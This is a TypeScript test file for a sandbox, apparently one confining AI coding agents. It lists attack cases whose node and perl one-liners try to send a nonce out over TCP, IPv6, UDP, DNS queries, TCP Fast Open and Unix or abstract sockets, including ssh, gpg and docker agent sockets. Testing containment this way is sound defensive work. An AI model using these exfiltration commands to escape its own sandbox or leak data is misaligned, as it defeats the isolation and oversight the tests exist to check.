import type { SandboxCase } from "../sandbox-case.js"
import type { Scene } from "../scene.js"
import { hearDatagrams, hearLocalDatagrams, hearStreams } from "../servers.js"

const attack = { kind: "attack", happened: heard } as const

/** Each sends the nonce to a server outside, which has heard it if the attack got through. */
export const networkAttacks: readonly SandboxCase[] = [
  {
    ...attack,
    name: "a server on localhost outside is reached",
    prepare: (scene) => hearStreams(scene, { host: "127.0.0.1", port: 0 }),
    script: `$NODE -e '${sendStream('{host:"127.0.0.1",port:+process.env.PORT}')}'`,
  },
  {
    ...attack,
    name: "a server on localhost outside is reached over IPv6",
    mayLack: "IPv6",
    prepare: (scene) => hearStreams(scene, { host: "::1", port: 0 }),
    script: `$NODE -e '${sendStream('{host:"::1",port:+process.env.PORT}')}'`,
  },
  {
    ...attack,
    name: "a datagram leaves over UDP",
    prepare: hearDatagrams,
    script: `$NODE -e '
      const socket = require("dgram").createSocket("udp4")
      socket.send(process.env.NONCE, +process.env.PORT, "127.0.0.1", () => socket.close())'`,
  },
  {
    ...attack,
    name: "a name is looked up in the DNS, a secret in it",
    prepare: hearDatagrams,
    script: `$NODE -e '
      const resolver = new (require("dns").Resolver)({ timeout: 200, tries: 1 })
      resolver.setServers(["127.0.0.1:" + process.env.PORT])
      resolver.resolve4(process.env.NONCE + ".example", () => {})'`,
  },
  {
    ...attack,
    name: "data leaves with a fast-open call, without connecting",
    platform: "linux",
    needs: ["perl"],
    mayLack: "TCP Fast Open",
    prepare: (scene) => hearStreams(scene, { host: "127.0.0.1", port: 0 }),
    // MSG_FASTOPEN of sendto(2).
    script: `perl -MSocket -e '
      socket(S, AF_INET, SOCK_STREAM, 0) or die;
      send(S, $ENV{NONCE}, 0x20000000, sockaddr_in($ENV{PORT}, inet_aton("127.0.0.1"))) or die'`,
  },
  {
    ...attack,
    name: "a socket in a folder outside, as of ssh, gpg or docker, is reached",
    prepare: (scene) => hearStreams(scene, { path: scene.file("outside/agent.sock") }),
    script: `$NODE -e '${sendStream('process.env.OUT+"/agent.sock"')}'`,
    excuse: "sockets",
  },
  {
    ...attack,
    name: "a socket in the root is reached",
    prepare: (scene) => hearStreams(scene, { path: scene.file("root/agent.sock") }),
    script: `$NODE -e '${sendStream('"agent.sock"')}'`,
    excuse: "sockets",
  },
  {
    ...attack,
    name: "an abstract socket is reached",
    platform: "linux",
    prepare: (scene) => hearStreams(scene, { path: `\0codex-${scene.nonce}` }),
    script: `$NODE -e '${sendStream('"\\0codex-"+process.env.NONCE')}'`,
  },
  {
    ...attack,
    name: "a datagram goes to a socket in the file system",
    platform: "linux",
    needs: ["perl"],
    prepare: hearLocalDatagrams,
    script: `perl -MSocket -e '
      socket(S, AF_UNIX, SOCK_DGRAM, 0) or die;
      send(S, $ENV{NONCE}, 0, sockaddr_un("$ENV{OUT}/log.sock")) or die'`,
    excuse: "sockets",
  },
  {
    ...attack,
    name: "a datagram goes to such a socket from one end of a pair",
    platform: "linux",
    needs: ["perl"],
    prepare: hearLocalDatagrams,
    script: `perl -MSocket -e '
      socketpair(A, B, AF_UNIX, SOCK_DGRAM, 0) or die;
      send(A, $ENV{NONCE}, 0, sockaddr_un("$ENV{OUT}/log.sock")) or die'`,
    excuse: "sockets",
  },
]

function sendStream(address: string): string {
  return `require("net").connect(${address}).on("error", () => process.exit(1)).end(process.env.NONCE).resume()`
}

/** What was sent before the command ended is in our own buffers: it is read within a few turns. */
async function heard({ heard, nonce }: Scene): Promise<boolean> {
  for (let turn = 0; turn < 20 && !heard.join("").includes(nonce); turn++) {
    await new Promise((resolve) => setTimeout(resolve, 5))
  }
  return heard.join("").includes(nonce)
}
